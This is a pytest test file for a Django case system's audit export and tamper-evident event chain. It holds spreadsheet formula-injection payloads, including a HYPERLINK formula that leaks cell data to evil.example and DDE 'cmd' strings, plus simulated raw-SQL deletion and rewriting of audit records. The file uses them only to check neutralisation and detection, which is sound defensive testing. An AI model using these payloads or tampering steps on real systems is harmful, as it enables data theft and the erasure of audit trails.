"""The outside security test's findings about the audit trail and the auditor's export
(issue 10): a hostile subject name must not become a formula in the auditor's
spreadsheet, every decision of a period (non-acceptances and revocations too) must be in
the export, and the event chain must be anchored so that cutting or rewriting it in the
database is found.
"""

import base64
import csv
import datetime
import importlib
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError, SystemCheckError
from django.db import IntegrityError, connection, transaction
from django.utils import timezone

from cases import signing
from cases.anchoring import checkpoint_open
from cases.events import (
    GENESIS,
    case_lock,
    event_payload,
    event_record,
    head_message,
    payload_hash,
)
from cases.models import AuditCheckpoint, Case, CaseEvent
from cases.tasks import audit_checkpoints
from documents.exports import export_verify, spreadsheet_cell
from documents.models import Letter
from tests import factories
from tests.attacker import attacker_sql
from tests.flow_helpers import (
    not_accept,
    objection_accepted,
    restoration_accepted,
    review,
    sign,
    submit,
)
from tests.flow_helpers import revoked as revoked_in_effect
from tests.helpers import pdf_upload, restorable_record
from tests.test_exports import at, decide, issue

ROOT = Path(__file__).resolve().parent.parent

# The stories count and number events; the messages a case event queues (and their own
# events) are the notifications tests' business.
pytestmark = pytest.mark.usefixtures("without_notifications", "private_files")

# --- an export as the auditor gets it ---------------------------------------------------------


def export(tmp_path, agency, date_from, date_to, name="export.zip"):
    out = tmp_path / name
    call_command(
        "export_decisions",
        agency=agency.code,
        date_from=date_from.isoformat(),
        date_to=date_to.isoformat(),
        out=str(out),
        stdout=io.StringIO(),
    )
    return out


def manifest_csv(path) -> list[dict]:
    with zipfile.ZipFile(path) as zf:
        return list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"))))


def manifest_json(path) -> dict:
    with zipfile.ZipFile(path) as zf:
        return json.loads(zf.read("manifest.json"))


def exported_events(path) -> list[dict]:
    with zipfile.ZipFile(path) as zf:
        return [json.loads(line) for line in zf.read("events.jsonl").decode().splitlines()]


# --- finding 5: a subject's name is not a formula in the auditor's spreadsheet ------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '＝HYPERLINK("http://evil.example/")',
]


def test_a_subject_named_like_a_formula_is_plain_text_in_the_auditors_manifest(
    agency, platforms, applicant, staff, tmp_path
):
    """A company whose registered name is =HYPERLINK(...) reaches the auditor's
    spreadsheet as text: the cell starts with a single quote, the JSON keeps the name."""
    hostile = factories.SubjectFactory(name=HOSTILE_NAMES[0])
    representative = factories.representative(hostile, "mallory")
    case = objection_accepted(
        hostile, [restorable_record(hostile, agency, platforms)], representative, staff
    )
    case = decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    letter = issue(case, Letter.Kind.REJECTION)

    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))

    (row,) = manifest_csv(out)
    assert row["verification_code"] == letter.verification_code
    assert row["subject_name"] == "'" + HOSTILE_NAMES[0]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert manifest_json(out)["letters"][0]["subject_name"] == HOSTILE_NAMES[0]
    report = export_verify(out)
    assert report.ok, report.problems


def test_every_cell_a_spreadsheet_would_evaluate_is_neutralised_and_no_other():
    assert [spreadsheet_cell(name) for name in HOSTILE_NAMES] == [
        "'" + name for name in HOSTILE_NAMES
    ]
    ordinary = ["深圳市示例科技有限公司", "Acme (Shenzhen) Co., Ltd.", "RD-2026-000001", 1234, ""]
    assert [spreadsheet_cell(value) for value in ordinary] == [str(v) for v in ordinary]


def test_verify_export_finds_a_manifest_csv_whose_cells_differ_from_the_json(
    agency, platforms, applicant, company, staff, tmp_path
):
    case = objection_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    issue(case, Letter.Kind.REJECTION)
    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    rows = manifest_csv(out)
    rows[0]["subject_name"] = '=HYPERLINK("http://evil.example/")'
    forged = io.StringIO()
    writer = csv.DictWriter(forged, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    target = tmp_path / "forged.zip"
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = forged.getvalue().encode() if item.filename == "manifest.csv" else None
            new.writestr(item, data if data is not None else old.read(item.filename))

    problems = export_verify(target).problems

    assert f"{rows[0]['file']}: manifest.csv and manifest.json disagree (subject_name)" in problems


# --- finding 7: every decision of the period is in the export ----------------------------------


def test_a_non_acceptance_is_exported_with_its_letter_and_events(
    company, agency, platforms, applicant, staff, tmp_path
):
    """Not accepting a request is a decision the applicant may appeal: the auditor sees it."""
    case = submit(
        Case.Kind.OBJECTION, company, [restorable_record(company, agency, platforms)], applicant
    )
    case = not_accept(case, staff["intake"], reasons="The record is not this agency's.")
    letter = issue(case, Letter.Kind.NON_ACCEPTANCE)
    today = timezone.localdate()

    out = export(tmp_path, agency, today, today)

    case.refresh_from_db()
    assert case.decided_at is not None
    (row,) = manifest_csv(out)
    assert (row["case_reference"], row["letter_kind"], row["decision"], row["decided_on"]) == (
        case.reference,
        "non_acceptance",
        "not_accepted",
        today.isoformat(),
    )
    assert row["sha256"] == letter.sha256
    kinds = [e["kind"] for e in exported_events(out) if e["case"] == case.reference]
    assert kinds[0] == "submitted" and "not_accepted" in kinds and "letter_issued" in kinds
    assert export_verify(out).ok


def test_a_revocation_is_exported_in_the_period_it_was_revoked(
    company, agency, platforms, applicant, staff, tmp_path
):
    """A restoration approved in March and revoked today is a decision of today."""
    case = restoration_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    case = decide(case, staff, Case.Decision.APPROVED, at("2026-03-10", "10:00"))
    case = revoked_in_effect(
        case=case,
        official=staff["signer"],
        ground="untrue_commitment",
        reasons="The commitment was false.",
        evidence=[pdf_upload("revocation")],
    )
    letter = issue(case, Letter.Kind.REVOCATION)
    today = timezone.localdate()

    out = export(tmp_path, agency, today, today)

    rows = {row["letter_kind"]: row for row in manifest_csv(out)}
    assert rows["revocation"]["verification_code"] == letter.verification_code
    assert rows["revocation"]["decided_on"] == "2026-03-10"
    assert rows["revocation"]["revoked_on"] == today.isoformat()
    kinds = [e["kind"] for e in exported_events(out) if e["case"] == case.reference]
    assert "revoked" in kinds
    assert export_verify(out).ok


def test_approvals_partial_approvals_rejections_and_non_acceptances_are_all_exported(
    company, agency, platforms, applicant, staff, tmp_path
):
    approved = restoration_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    approved = decide(approved, staff, Case.Decision.APPROVED, timezone.now())
    two = [restorable_record(company, agency, platforms) for _ in range(2)]
    partly = objection_accepted(company, two, applicant, staff)
    review(
        partly,
        staff["case_officer"],
        Case.Decision.PARTLY_APPROVED,
        record_outcomes={two[0].pk: "upheld", two[1].pk: "rejected"},
    )
    partly = sign(
        partly,
        staff["signer"],
        Case.Decision.PARTLY_APPROVED,
        reasons="Only the first record was wrong.",
    )
    rejected = objection_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    rejected = decide(rejected, staff, Case.Decision.REJECTED, timezone.now())
    refused = not_accept(
        submit(
            Case.Kind.OBJECTION,
            company,
            [restorable_record(company, agency, platforms)],
            applicant,
        ),
        staff["intake"],
        reasons="Filed with the wrong agency.",
    )
    today = timezone.localdate()

    out = export(tmp_path, agency, today, today)

    decisions = {c["reference"]: c["decision"] for c in manifest_json(out)["cases"]}
    assert decisions == {
        approved.reference: "approved",
        partly.reference: "partly_approved",
        rejected.reference: "rejected",
        refused.reference: "not_accepted",
    }


def test_the_migration_dates_earlier_non_acceptances_and_revocations_from_their_events(
    company, agency, platforms, applicant, staff
):
    refused = not_accept(
        submit(
            Case.Kind.OBJECTION,
            company,
            [restorable_record(company, agency, platforms)],
            applicant,
        ),
        staff["intake"],
        reasons="Filed with the wrong agency.",
    )
    revoked = restoration_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    revoked = decide(revoked, staff, Case.Decision.APPROVED, at("2026-03-10", "10:00"))
    revoked = revoked_in_effect(
        case=revoked,
        official=staff["signer"],
        ground="untrue_commitment",
        reasons="False commitment.",
        evidence=[pdf_upload("revocation")],
    )
    # As a database from before the change has them.
    Case.objects.filter(pk=refused.pk).update(decided_at=None)
    Case.objects.filter(pk=revoked.pk).update(revoked_at=None)
    migration = importlib.import_module("cases.migrations.0011_decision_dates")

    from django.apps import apps

    migration.dates_from_events(apps, None)

    refused.refresh_from_db()
    revoked.refresh_from_db()
    assert refused.decided_at == CaseEvent.objects.get(case=refused, kind="not_accepted").at
    assert revoked.revoked_at == CaseEvent.objects.get(case=revoked, kind="revoked").at
    assert revoked.decided_at == at("2026-03-10", "10:00")


# --- finding 3: the event chain is anchored outside the database ---------------------------------
#
# The attacker works with raw SQL as a database superuser who switches off the trigger
# that refuses it to everyone else (tests.attacker); what matters is what is detected.

EVENTS = CaseEvent._meta.db_table
CASES = Case._meta.db_table


def story_case(company, agency, applicant, officer, *, grounds="The fine was paid on the day."):
    """A case with three events: submitted (#1), accepted (#2), evidence_reviewed (#3)."""
    case = submit(
        Case.Kind.OBJECTION,
        company,
        [factories.RecordFactory(subject=company, agency=agency)],
        applicant,
        grounds=grounds,
    )
    append(case, "accepted", actor=officer, note="Materials complete.")
    append(case, "evidence_reviewed", actor=officer, note="Receipt checked against the bank.")
    return Case.objects.get(pk=case.pk)


def append(case, kind, *, actor, note="", role="case_officer"):
    """Record one more event as a service does: in a transaction, with the case locked."""
    with transaction.atomic():
        return event_record(case_lock(case), kind, actor=actor, role=role, note=note)


def verify(*args) -> tuple[str, str | None]:
    """Run ``verify_events``: (what it printed, its error or None)."""
    out = io.StringIO()
    try:
        call_command("verify_events", *args, stdout=out)
    except CommandError as exc:
        return out.getvalue(), str(exc)
    return out.getvalue(), None


def checkpoint() -> None:
    call_command("audit_checkpoint", stdout=io.StringIO(), stderr=io.StringIO())


def rewrite_from(case, seq: int, note: str) -> None:
    """Change event ``seq``'s note and recompute its hash and every later one's with the
    project's own hash function, so that the chain links up again."""
    previous = CaseEvent.objects.get(case=case, seq=seq - 1).hash if seq > 1 else GENESIS
    for event in CaseEvent.objects.filter(case=case, seq__gte=seq).order_by("seq"):
        if event.seq == seq:
            event.note = note
        event.prev_hash = previous
        event.hash = payload_hash(event_payload(event, reference=case.reference))
        attacker_sql(
            f"UPDATE {EVENTS} SET note = %s, prev_hash = %s, hash = %s WHERE id = %s",
            [event.note, event.prev_hash, event.hash, event.pk],
        )
        previous = event.hash


@pytest.fixture
def officer(agency):
    return factories.officer("case_officer", agency, username="officer-li")


def test_an_export_left_short_of_a_decision_is_found_by_its_signed_checkpoint(
    company, agency, platforms, applicant, staff, tmp_path
):
    """Taking a decided case out of the ZIP (manifest, events, letters) does not go unseen."""
    kept, hidden = [
        decide(
            objection_accepted(
                company, [restorable_record(company, agency, platforms)], applicant, staff
            ),
            staff,
            Case.Decision.REJECTED,
            at("2026-03-10", "10:00"),
        )
        for _ in range(2)
    ]
    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    manifest = manifest_json(out)
    manifest["cases"] = [c for c in manifest["cases"] if c["reference"] != hidden.reference]
    manifest["letters"] = [
        r for r in manifest["letters"] if r["case_reference"] != hidden.reference
    ]
    events = [e for e in exported_events(out) if e["case"] != hidden.reference]
    trimmed = tmp_path / "trimmed.zip"
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(trimmed, "w") as new:
        for item in old.infolist():
            if item.filename.startswith(f"letters/{hidden.reference}/"):
                continue
            data = {
                "manifest.json": json.dumps(manifest).encode(),
                "events.jsonl": "".join(json.dumps(e) + "\n" for e in events).encode(),
                "manifest.csv": b"",
            }.get(item.filename)
            new.writestr(item, data if data is not None else old.read(item.filename))

    problems = export_verify(trimmed).problems

    assert f"{hidden.reference}: decided on 2026-03-10 according to the signed checkpoint #1" in (
        " ".join(problems)
    )
    assert kept.reference not in " ".join(problems)


def test_auditors_check_an_export_with_the_public_key_alone(
    company, agency, platforms, applicant, staff, tmp_path
):
    case = objection_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    printed = io.StringIO()
    call_command("audit_key", stdout=printed)
    genuine = tmp_path / "agency.pem"
    genuine.write_text(printed.getvalue()[printed.getvalue().index("-----BEGIN") :])
    stranger = tmp_path / "stranger.pem"
    stranger.write_text(signing.public_key_pem(signing.Ed25519PrivateKey.generate().public_key()))

    done = io.StringIO()
    call_command("verify_export", str(out), "--public-key", str(genuine), stdout=done)
    assert "Export verified: 0 letters, 1 cases" in done.getvalue()
    assert "PRIVATE" not in genuine.read_text()

    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command(
            "verify_export", str(out), "--public-key", str(stranger), stdout=done, stderr=err
        )
    assert f"{case.reference}: its signed head (event #" in err.getvalue()
    assert "it is signed with another key" in err.getvalue()


def test_checkpoints_are_signed_chained_and_copied_outside_the_database(
    company, agency, applicant, officer, _checkpoint_store
):
    case = story_case(company, agency, applicant, officer)
    assert audit_checkpoints() == 1  # what Celery beat runs
    checkpoint()  # nothing changed: no new checkpoint
    append(case, "review_completed", actor=officer)
    checkpoint()

    first, second = AuditCheckpoint.objects.filter(agency=agency).order_by("seq")
    assert (first.seq, second.seq, second.prev_hash) == (1, 2, first.hash)
    copies = sorted(p.name for p in (_checkpoint_store / agency.code).iterdir())
    assert copies == ["00000001.json", "00000002.json"]
    stored = json.loads((_checkpoint_store / agency.code / "00000002.json").read_text())
    body, problem = checkpoint_open(stored, signing.public_key())
    assert problem is None
    assert body["cases"] == [[case.reference, 4, case_head_hash(case), "", ""]]
    assert CaseEvent.objects.filter(case=case).count() == 4
    assert body["case_count"] == 1 and body["problems"] == []
    assert settings.CELERY_BEAT_SCHEDULE["audit-checkpoints"]["task"] == "cases.audit_checkpoints"


def case_head_hash(case) -> str:
    return CaseEvent.objects.filter(case=case).order_by("-seq").values_list("hash", flat=True)[0]


def test_every_event_signs_its_cases_head_with_one_more_query(
    company, agency, applicant, officer, django_assert_num_queries
):
    case = story_case(company, agency, applicant, officer)
    with transaction.atomic():
        locked = case_lock(case)
        # The last event, the new event, the case row's head: nothing else is read or written.
        with django_assert_num_queries(3):
            event = event_record(locked, "closed", actor=None, role="system", automated=True)
    case.refresh_from_db()
    assert (case.head_seq, case.head_hash) == (4, event.hash)
    assert (
        signing.signature_problem(
            signing.public_key(), head_message(case.reference, 4, event.hash), case.head_signature
        )
        is None
    )


def test_cases_from_before_anchoring_are_reported_until_adopted(
    company, agency, applicant, officer
):
    case = story_case(company, agency, applicant, officer)
    Case.objects.filter(pk=case.pk).update(head_seq=0, head_hash="", head_signature="")

    output, error = verify()
    assert error == "1 of 1 case chains are broken."
    assert f"{case.reference}: has no signed head" in output

    out = io.StringIO()
    call_command("audit_checkpoint", "--adopt", stdout=out, stderr=io.StringIO())
    assert "Adopted 1 cases from before anchoring." in out.getvalue()
    assert verify()[1] is None


def test_without_the_signing_key_the_system_check_fails_and_nothing_is_recorded(
    company, agency, applicant, settings, tmp_path
):
    settings.REDRESS_AUDIT_KEY_FILE = tmp_path / "nowhere.pem"

    with pytest.raises(SystemCheckError, match=r"cases.E001"):
        call_command("check", stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(signing.KeyUnavailable):
        submit(
            Case.Kind.OBJECTION,
            company,
            [factories.RecordFactory(subject=company, agency=agency)],
            applicant,
        )
    assert not Case.objects.exists()


def test_production_refuses_to_start_without_an_audit_key_file(tmp_path):
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "config.settings.production",
        "DJANGO_SECRET_KEY": "x" * 64,
        "DJANGO_ALLOWED_HOSTS": "redress.example.gov.cn",
        "REDRESS_VAR_DIR": str(tmp_path),
    }
    env.pop("REDRESS_AUDIT_KEY_FILE", None)
    result = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode != 0
    assert "REDRESS_AUDIT_KEY_FILE must name the audit signing key" in result.stderr


# --- on PostgreSQL: the attacker with raw SQL (last in the module: these tests commit and
# empty the database, which the tests above would not find seeded again)


@pytest.mark.postgres
def test_the_database_refuses_to_change_or_delete_events_and_checkpoints_to_its_own_users(
    postgres_only, company, agency, applicant, officer
):
    """Not the ORM: raw SQL, as the application's own role (or an injection) would send."""
    case = story_case(company, agency, applicant, officer)
    checkpoint()
    statements = [
        (f"UPDATE {EVENTS} SET note = 'rewritten' WHERE case_id = %s", [case.pk]),
        (f"DELETE FROM {EVENTS} WHERE case_id = %s AND seq = 3", [case.pk]),
        ("UPDATE cases_auditcheckpoint SET body = '{}' WHERE agency_id = %s", [agency.pk]),
        ("DELETE FROM cases_auditcheckpoint WHERE agency_id = %s", [agency.pk]),
    ]
    for statement, params in statements:
        with (
            pytest.raises(IntegrityError, match="append-only"),
            transaction.atomic(),
            connection.cursor() as cursor,
        ):
            cursor.execute(statement, params)

    assert CaseEvent.objects.filter(case=case).count() == 3
    assert verify()[1] is None


@pytest.mark.postgres
def test_deleting_a_cases_newest_event_is_found(postgres_only, company, agency, applicant, officer):
    case = story_case(company, agency, applicant, officer)
    other = story_case(company, agency, applicant, officer, grounds="Wrong branch named.")

    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s AND seq = 3", [case.pk])

    output, error = verify()
    assert error == "1 of 2 case chains are broken."
    assert output.strip() == (
        f"{case.reference}: its signed head is event #3, but its chain ends at event #2: "
        "events at the end were removed"
    )
    assert other.reference not in output


@pytest.mark.postgres
def test_rewriting_an_event_and_recomputing_the_later_hashes_is_found(
    postgres_only, company, agency, applicant, officer
):
    case = story_case(company, agency, applicant, officer)

    rewrite_from(case, 2, "Materials were never checked.")

    output, error = verify()
    assert error == "1 of 1 case chains are broken."
    assert output.strip() == (
        f"{case.reference}: event #3 is not the event its signed head vouches for: the chain "
        "was rewritten and its hashes recomputed"
    )


@pytest.mark.postgres
def test_deleting_a_whole_case_events_and_row_is_found_by_the_checkpoint_and_the_references(
    postgres_only, company, agency, applicant, officer
):
    first = story_case(company, agency, applicant, officer)
    second = story_case(company, agency, applicant, officer, grounds="Wrong branch named.")
    third = story_case(company, agency, applicant, officer, grounds="Paid twice.")
    checkpoint()

    # The whole trail of the middle case, then the case itself: nothing of it is left.
    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s", [second.pk])
    attacker_sql(f"DELETE FROM {CASES} WHERE id = %s", [second.pk])

    output, error = verify()
    assert error == "2 other problem(s) with the checkpoints and case references."
    lines = output.strip().splitlines()
    assert lines[0].startswith(f"{second.reference}: listed with event #3 in SZAMR's checkpoint #1")
    assert lines[0].endswith("it is no longer in the database: the case was deleted")
    assert lines[1] == (
        f"no case has reference {second.reference}: references are issued without gaps, so "
        "the case was deleted"
    )
    assert first.reference not in output and third.reference not in output


@pytest.mark.postgres
def test_deleting_the_newest_case_and_winding_back_its_counter_is_found(
    postgres_only, company, agency, applicant, officer
):
    story_case(company, agency, applicant, officer)
    newest = story_case(company, agency, applicant, officer, grounds="Wrong branch named.")
    checkpoint()

    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s", [newest.pk])
    attacker_sql(f"DELETE FROM {CASES} WHERE id = %s", [newest.pk])
    attacker_sql("UPDATE cases_referencecounter SET last = last - 1")

    output, error = verify()
    assert error is not None
    assert f"{newest.reference}: listed with event #3 in SZAMR's checkpoint #1" in output
    year = newest.reference.split("-")[1]
    assert f"the reference counter of {year} went back from 2 to 1" in output
    assert f"no case has reference {newest.reference}" in output


@pytest.mark.postgres
def test_cutting_a_chain_and_putting_back_an_older_signed_head_is_found_by_the_checkpoint(
    postgres_only, company, agency, applicant, officer
):
    """An insider who kept the signed head of event #2 cannot make the cut invisible."""
    case = story_case(company, agency, applicant, officer)
    kept = Case.objects.values_list("head_seq", "head_hash", "head_signature").get(pk=case.pk)
    append(case, "review_completed", actor=officer)
    checkpoint()

    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s AND seq = 4", [case.pk])
    attacker_sql(
        f"UPDATE {CASES} SET head_seq = %s, head_hash = %s, head_signature = %s WHERE id = %s",
        [*kept, case.pk],
    )

    output, error = verify()
    assert error == "1 other problem(s) with the checkpoints and case references."
    assert output.strip().startswith(f"{case.reference}: event #4, vouched for by SZAMR's")
    assert output.strip().endswith("is missing")


@pytest.mark.postgres
def test_a_head_cannot_be_forged_without_the_key(
    postgres_only, company, agency, applicant, officer
):
    case = story_case(company, agency, applicant, officer)
    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s AND seq = 3", [case.pk])
    last = CaseEvent.objects.get(case=case, seq=2)
    # The attacker signs the cut chain's head with a key of their own.
    forged = signing.Ed25519PrivateKey.generate()
    signature = base64.urlsafe_b64encode(
        forged.sign(head_message(case.reference, 2, last.hash))
    ).decode()
    attacker_sql(
        f"UPDATE {CASES} SET head_seq = 2, head_hash = %s, head_signature = %s WHERE id = %s",
        [last.hash, f"{signing.key_id(forged.public_key())}.{signature}", case.pk],
    )

    output, error = verify()
    assert error == "1 of 1 case chains are broken."
    assert (
        f"{case.reference}: its signed head (event #2) cannot be trusted: it is signed with "
        in (output)
    )


@pytest.mark.postgres
def test_deleting_the_latest_checkpoint_is_found_by_its_copy_outside_the_database(
    postgres_only, company, agency, applicant, officer
):
    case = story_case(company, agency, applicant, officer)
    checkpoint()
    append(case, "review_completed", actor=officer)
    checkpoint()

    # Back to before event #4: drop it, its head, and the checkpoint that vouched for it.
    attacker_sql("DELETE FROM cases_auditcheckpoint WHERE seq = 2")
    kept = CaseEvent.objects.get(case=case, seq=3)
    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s AND seq = 4", [case.pk])
    attacker_sql(
        f"UPDATE {CASES} SET head_seq = 3, head_hash = %s WHERE id = %s", [kept.hash, case.pk]
    )

    output, error = verify()
    assert error is not None
    assert (
        "SZAMR: checkpoint #2 is in the write-once store but not in the database: "
        "checkpoints were deleted from the database"
    ) in output
    assert f"{case.reference}: event #4, vouched for by SZAMR's checkpoint #2" in output


@pytest.mark.postgres
def test_verify_export_finds_the_three_attacks(
    postgres_only, company, agency, platforms, applicant, staff, tmp_path
):
    """The auditor's offline check sees what was done to the database before the export."""
    cases = []
    for _ in range(4):
        case = objection_accepted(
            company, [restorable_record(company, agency, platforms)], applicant, staff
        )
        cases.append(decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00")))
    cut, rewritten, emptied, gone = cases
    checkpoint()

    newest = CaseEvent.objects.filter(case=cut).order_by("-seq").first()
    attacker_sql(f"DELETE FROM {EVENTS} WHERE id = %s", [newest.pk])
    rewrite_from(rewritten, 2, "Accepted without materials.")
    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s", [emptied.pk])
    attacker_sql(f"DELETE FROM {EVENTS} WHERE case_id = %s", [gone.pk])
    attacker_sql(f"DELETE FROM {CASES} WHERE id = %s", [gone.pk])

    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    key = tmp_path / "agency.pem"
    key.write_text(signing.public_key_pem(signing.public_key()))
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command(
            "verify_export", str(out), "--public-key", str(key), stdout=io.StringIO(), stderr=err
        )
    problems = err.getvalue()

    assert (
        f"{cut.reference}: its signed head is event #{newest.seq}, but its chain ends at "
        f"event #{newest.seq - 1}: events at the end were removed"
    ) in problems
    assert f"{rewritten.reference}: event #" in problems
    assert "the chain was rewritten and its hashes recomputed" in problems
    assert f"{emptied.reference}: in the manifest but has no events" in problems
    assert f"{gone.reference}: listed with event #" in problems
    assert "it is no longer in the database: the case was deleted" in problems
